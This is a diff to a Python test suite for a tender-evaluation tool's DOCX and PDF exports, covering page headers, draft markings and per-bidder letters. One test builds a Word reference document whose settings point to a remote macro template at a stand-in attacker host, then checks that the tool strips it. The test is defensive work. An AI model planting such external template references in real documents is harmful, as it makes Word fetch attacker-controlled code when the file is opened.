@@ -180,7 +180,7 @@ def test_letters_are_one_per_bidder_marked_for_it_alone(written: dict[str, Any])
     assert "for Brightwater Data Systems Ltd only" in _headers(brightwater)
     text = _text(brightwater)
     assert "To: Brightwater Data Systems Limited, 2 Riverside Way, Reading RG1 8AA." in text
-    assert "ends on Tuesday 3 November 2026" in text
+    assert "ends at the end of Tuesday 3 November 2026" in text
     assert "Castellan" not in text  # nothing about another bidder
     refused = run_cli(["summaries", tender, "--format", "pdf"], exit_code=2)
     assert "--format expects md, docx or md,docx" in refused.stderr
@@ -206,3 +206,73 @@ def test_libreoffice_opens_the_report_and_numbers_its_pages(
     assert "Recommended for award: Albion Analytics Ltd" in text
     assert "Page 1 of " in text
     assert "CONFIDENTIAL: evaluation committee only" in text
+
+
+def test_an_odd_and_even_page_reference_numbers_every_page(
+    written: dict[str, Any], tmp_path: Path
+) -> None:
+    """A reference with its own first-page and even-page headers and footers: the marking and
+    the page number go into each, and a reference lacking list styles still shows bullets."""
+    templates = tmp_path / "templates"
+    templates.mkdir()
+    reference = Document()
+    reference.settings.odd_and_even_pages_header_footer = True
+    reference.sections[0].different_first_page_header_footer = True
+    reference.sections[0].even_page_footer.paragraphs[0].text = "Even-page footer"
+    list_style = reference.styles["List Bullet"].element
+    list_style.getparent().remove(list_style)
+    reference.core_properties.subject = "Draft - do not circulate"
+    reference.save(str(templates / "reference.docx"))
+    saved = written["out"] / f"{REFERENCE}-evaluation.json"
+    run_cli(["export", saved, "--format", "docx", "--out", tmp_path, "--template", templates])
+    docx = (tmp_path / f"{REFERENCE}-report.docx").read_bytes()
+    with zipfile.ZipFile(io.BytesIO(docx)) as package:
+        footers = [n for n in package.namelist() if n.startswith("word/footer")]
+        headers = [n for n in package.namelist() if n.startswith("word/header")]
+        assert len(footers) == 3
+        assert all('w:instr="PAGE"' in package.read(n).decode() for n in footers)
+        assert all(
+            "CONFIDENTIAL: evaluation committee only" in package.read(n).decode() for n in headers
+        )
+        core = package.read("docProps/core.xml").decode()
+    assert "Draft - do not circulate" not in core
+    assert "\u2022\t" in _text(docx)  # the list style was missing: bullets drawn by hand
+
+
+def test_a_draft_says_so_at_the_top_of_every_page(tmp_path: Path) -> None:
+    directory = write_tender(
+        tmp_path / "t", tender_with(), [bid("a", price=90), bid("b", price=95, scores=(1, 5))]
+    )
+    run_cli(["evaluate", directory, "--format", "docx", "--draft"])
+    docx = (directory / "out" / "draft" / "T-1-draft-report.docx").read_bytes()
+    assert "CONFIDENTIAL: evaluation committee only | DRAFT, not ready to award" in _headers(docx)
+
+
+def test_letters_are_refused_without_a_single_tender_first(tmp_path: Path) -> None:
+    directory = write_tender(tmp_path / "t", tender_with(tie_break=[]), [bid("a"), bid("b")])
+    result = run_cli(["summaries", directory, "--format", "docx"], exit_code=2)
+    assert "recommends no single tender" in result.stderr
+    assert not (directory / "out" / "summaries").exists()
+
+
+def test_a_reference_documents_template_on_a_server_is_not_carried(tmp_path: Path) -> None:
+    """Word fetches an attached template named by URL when it opens a document: a reference
+    document's is dropped."""
+    from docx.oxml import OxmlElement
+    from docx.oxml.ns import qn
+
+    reference = Document()
+    settings = next(
+        p for p in reference.part.package.iter_parts() if str(p.partname) == "/word/settings.xml"
+    )
+    attached_template = (
+        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    )
+    rid = settings.relate_to("http://evil.example/t.dotm", attached_template, is_external=True)
+    attached = OxmlElement("w:attachedTemplate", {qn("r:id"): rid})
+    reference.settings.element.append(attached)
+    reference.save(str(tmp_path / "reference.docx"))
+    docx = markdown_to_docx("# Title\n\nText.\n", images={}, template_dir=tmp_path)
+    with zipfile.ZipFile(io.BytesIO(docx)) as package:
+        everything = "".join(package.read(n).decode(errors="replace") for n in package.namelist())
+    assert "evil.example" not in everything
